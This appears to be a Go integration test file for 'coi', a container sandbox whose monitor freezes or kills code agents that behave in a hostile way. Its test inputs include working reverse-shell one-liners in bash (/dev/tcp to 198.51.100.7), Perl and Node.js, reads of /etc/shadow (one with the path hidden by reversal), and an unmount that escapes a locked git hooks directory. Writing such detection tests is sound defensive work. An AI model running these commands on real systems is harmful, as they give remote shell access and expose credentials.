//go:build attack

package attack

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/code-on-incus/coi/pkg/run"
	"github.com/code-on-incus/coi/test/internal/house"
)

// session is one `coi run` that goes on while the test looks at it.
type session struct {
	t         *testing.T
	container string
	out       bytes.Buffer
	ended     chan error
}

// begin starts coi run with a shell command and waits for its container.
func begin(t *testing.T, dir, script string) *session {
	t.Helper()
	return beginFor(t, dir, script, 3*time.Minute)
}

// beginFor is begin of a command that may take its time.
func beginFor(t *testing.T, dir, script string, limit time.Duration) *session {
	t.Helper()
	s := &session{t: t, ended: make(chan error, 1)}
	ctx, cancel := context.WithTimeout(context.Background(), limit)
	cmd := the.Command(ctx, house.Call{Dir: dir, Args: []string{"run", "--", "bash", "-c", script}})
	cmd.Stdout, cmd.Stderr = &s.out, &s.out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	go func() { s.ended <- cmd.Wait() }()
	t.Cleanup(func() {
		cancel()
		if s.container != "" {
			_ = do(t, dir, "kill", "--force", s.container)
		}
	})
	err := house.Eventually(t.Context(), time.Minute, func() error {
		names, err := run.Names(the.Home.Run(), run.WatchFile)
		for _, n := range names {
			var w run.Watch
			if run.Read(the.Home.Run(n+run.WatchFile), &w) == nil && w.Source == dir {
				s.container = n
				return nil
			}
		}
		return errors.Join(err, errors.New("no container is watched for "+dir))
	})
	if err != nil {
		t.Fatalf("%v\n%s", err, s.out.String())
	}
	return s
}

// status waits until the watch says something of the container.
func (s *session) status(what string, ok func(run.WatchStatus) bool) run.WatchStatus {
	s.t.Helper()
	var st run.WatchStatus
	err := house.Eventually(s.t.Context(), 30*time.Second, func() error {
		st = run.WatchStatus{}
		if err := run.Read(the.Home.Run(s.container+run.WatchStatusFile), &st); err != nil {
			return err
		}
		if !ok(st) {
			return fmt.Errorf("%s: not yet; status %+v", what, st)
		}
		return nil
	})
	if err != nil {
		s.t.Fatalf("%v\n%s", err, s.out.String())
	}
	return st
}

// answered waits until a finding of that kind was answered by a freeze or the
// end. The trail tells: a container that was ended leaves no status behind.
func (s *session) answered(rule string) {
	s.t.Helper()
	err := house.Eventually(s.t.Context(), 30*time.Second, func() error {
		got := rulesOf(s.t, s.container, "critical", "high")
		for _, r := range got {
			if strings.HasPrefix(r, rule) && (strings.Contains(r, "(killed)") || strings.Contains(r, "(paused)")) {
				return nil
			}
		}
		return fmt.Errorf("no answer to %s; the trail has %v", rule, got)
	})
	if err != nil {
		s.t.Errorf("%v\n%s", err, s.out.String())
	}
}

// end waits for coi run.
func (s *session) end() (string, error) {
	s.t.Helper()
	select {
	case err := <-s.ended:
		return s.out.String(), err
	case <-time.After(time.Minute):
		s.t.Fatalf("coi run did not end:\n%s", s.out.String())
		return "", nil
	}
}

// rulesOf lists the rules that were recorded with a level, of one container.
func rulesOf(t *testing.T, container string, levels ...string) []string {
	t.Helper()
	data, err := os.ReadFile(the.Home.Audit(container + ".jsonl"))
	if os.IsNotExist(err) {
		return nil // nothing happened yet
	}
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	// The trail is read while it is written: what is behind the last line end is not there yet.
	for line := range strings.Lines(string(data[:bytes.LastIndexByte(data, '\n')+1])) {
		var r struct{ Level, Rule, Title, Action string }
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatalf("%v in %s", err, line)
		}
		for _, l := range levels {
			if r.Level == l {
				out = append(out, r.Rule+" ("+r.Action+"): "+r.Title)
			}
		}
	}
	return out
}

// R-MON-02, T-W-05: a high finding freezes; coi unfreeze goes on; the next
// finding freezes again, and Incus agrees each time.
func TestWatchFreezesThawsAndFreezesAgain(t *testing.T) {
	dir := workspace(t)
	// The second act begins when the first has been let go, however late the
	// freeze of the first comes on a loaded host.
	s := begin(t, dir, "echo one; sudo cat /etc/shadow > /dev/null; echo two; until [ -e go ]; do sleep 0.05; done; sudo cat /etc/shadow > /dev/null; echo three")
	s.status("frozen", func(st run.WatchStatus) bool { return st.Frozen != nil })
	must(t, dir, "unfreeze", s.container)
	if err := os.WriteFile(filepath.Join(dir, "go"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	s.status("frozen again", func(st run.WatchStatus) bool { return st.Frozen != nil && st.Thaw == 1 })
	must(t, dir, "unfreeze", s.container)
	out, err := s.end()
	if err != nil || !strings.Contains(out, "three") {
		t.Errorf("coi run = %v, %q; want three", err, out)
	}
}

// R-MON-05: in a workspace of root the tool is container root, as coi's own set-up
// is. What it does is judged all the same; the set-up and the save pause nothing.
func TestRootToolIsJudged(t *testing.T) {
	dir := workspace(t)
	if err := os.Chown(dir, 0, 0); err != nil {
		t.Fatal(err)
	}
	s := begin(t, dir, "id -u > uid; "+awaitGo+"sleep 60")
	err := house.Eventually(t.Context(), time.Minute, func() error {
		data, err := os.ReadFile(dir + "/uid")
		if err == nil && string(data) != "0\n" {
			err = fmt.Errorf("control: the tool is %q; want root", data)
		}
		return err
	})
	if err != nil {
		t.Fatalf("%v\n%s", err, s.out.String())
	}
	if got := rulesOf(t, s.container, "high", "critical"); len(got) > 0 {
		t.Errorf("the set-up is judged: %v", got)
	}
	goOn(t, dir, "cat /etc/shadow >/dev/null; bash -i >& /dev/tcp/198.51.100.7/4242 0>&1")
	s.answered("cred.shadow")
	must(t, dir, "unfreeze", s.container)
	s.answered("shell.")
}

// R-MON-08: a file is watched itself, whatever words name it, in each of several
// containers at once. The open file is what counts: the command does not show it.
func TestWatchSeesFilesOfEveryContainer(t *testing.T) {
	first := workspace(t)
	must(t, first, "shell", "--background", "--debug")
	t.Cleanup(func() { the.Do(context.Background(), house.Call{Dir: first, Args: []string{"kill", "--force"}}) })
	dir, err := the.Workspace("TestWatchSeesFilesOfEveryContainer-2")
	if err != nil {
		t.Fatal(err)
	}
	s := begin(t, dir, `n=$(printf 'wodahs/cte/' | rev); echo quiet; sudo python3 -c 'import sys; open(sys.argv[1]).read()' "$n"`)
	s.answered("cred.shadow")
	must(t, dir, "kill", "--force", s.container)
	if _, err := s.end(); err == nil {
		t.Error("coi run of a container that was killed returned 0")
	}
}

// R-MON-05, T-W-03: a shell whose streams are a connection, in several languages.
func TestWatchEndsReverseShells(t *testing.T) {
	configure(t, "[network]\nmode = \"open\"\nallow_local_network_access = true\n")
	for name, script := range map[string]string{
		"perl renamed": `cp /usr/bin/perl ./p; ./p -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(PORT,inet_aton("HOST"))); open(STDIN,">&S"); open(STDOUT,">&S"); open(STDERR,">&S"); exec("/bin/bash");'`,
		"node from file": `cat > r.js <<'X'
const n=require("net"),c=require("child_process");const s=n.connect(PORT,"HOST",()=>{const p=c.spawn("/bin/sh",[]);s.pipe(p.stdin);p.stdout.pipe(s);p.stderr.pipe(s)});
X
node r.js`,
	} {
		t.Run(name, func(t *testing.T) {
			l, err := net.Listen("tcp4", "0.0.0.0:0")
			if err != nil {
				t.Fatal(err)
			}
			defer func() { _ = l.Close() }()
			go func() {
				for {
					c, err := l.Accept()
					if err != nil {
						return
					}
					defer func() { _ = c.Close() }()
				}
			}()
			port := fmt.Sprint(l.Addr().(*net.TCPAddr).Port)
			text := strings.NewReplacer("PORT", port, "HOST", uplink(t)).Replace(script)
			dir := workspace(t)
			if err := os.WriteFile(filepath.Join(dir, "attack.sh"), []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			s := begin(t, dir, "cd /workspace; bash ./attack.sh; sleep 60")
			s.answered("shell.")
		})
	}
}

// T-W-04: what an agent does all day stops nobody.
func TestWatchLeavesDevelopersAlone(t *testing.T) {
	dir := workspace(t)
	script := `set -e
git init -q . ; git config user.email a@example.com; git config user.name a
printf 'package main\nfunc main() { println("x") }\n' > main.go; git add -A; git commit -qm first; git log | cat
printf 'all:\n\t@for i in 1 2 3 4 5 6 7 8; do sh -c "sleep 0.1" & done; wait\n' > Makefile; make -j8 2>/dev/null || true
node -e 'console.log(require("os").hostname())'; npm --version
python3 -c 'import socket' 2>/dev/null || true
env | sort > /dev/null; printenv | grep PATH
bash -c 'timeout 1 bash -c "</dev/tcp/127.0.0.1/5432"' 2>/dev/null || true
sudo true; sudo ls /root; id; ps aux | head -3
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519 2>/dev/null || true
tar cf /tmp/x.tar . ; tar tf /tmp/x.tar > /dev/null; grep -r package . > /dev/null; find . -name '*.go'
echo TOKEN=1 > .env; cat .env; history | tail -1; crontab -l 2>/dev/null || true
echo finished`
	s := begin(t, dir, script)
	out, err := s.end()
	if err != nil || !strings.Contains(out, "finished") {
		t.Errorf("coi run = %v\n%s", err, out)
	}
	if got := rulesOf(t, s.container, "high", "critical"); len(got) > 0 {
		t.Errorf("findings in honest work: %v", got)
	}
	if got := rulesOf(t, s.container, "warning"); len(got) > 0 {
		t.Logf("warnings: %v", got)
	}
}

// T-W-11: the lock on git hooks is taken off from inside.
func TestWatchSeesALockTakenOff(t *testing.T) {
	dir := workspace(t)
	if out, err := exec.Command("git", "init", "-q", dir).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	if out, err := exec.Command("chown", "-R", fmt.Sprint(house.Owner), dir).CombinedOutput(); err != nil {
		t.Fatalf("chown: %v: %s", err, out)
	}
	s := begin(t, dir, "sleep 1; sudo umount /workspace/.git/hooks; sleep 60")
	s.answered("escape.locked")
}

// R-MON-15: nothing of coi runs inside.
func TestWatchRunsNothingInside(t *testing.T) {
	r := must(t, workspace(t), "run", "--", "sh", "-c", "ps -eo comm,args")
	if strings.Contains(r.Stdout, "coi") {
		t.Errorf("processes inside:\n%s", r.Stdout)
	}
}
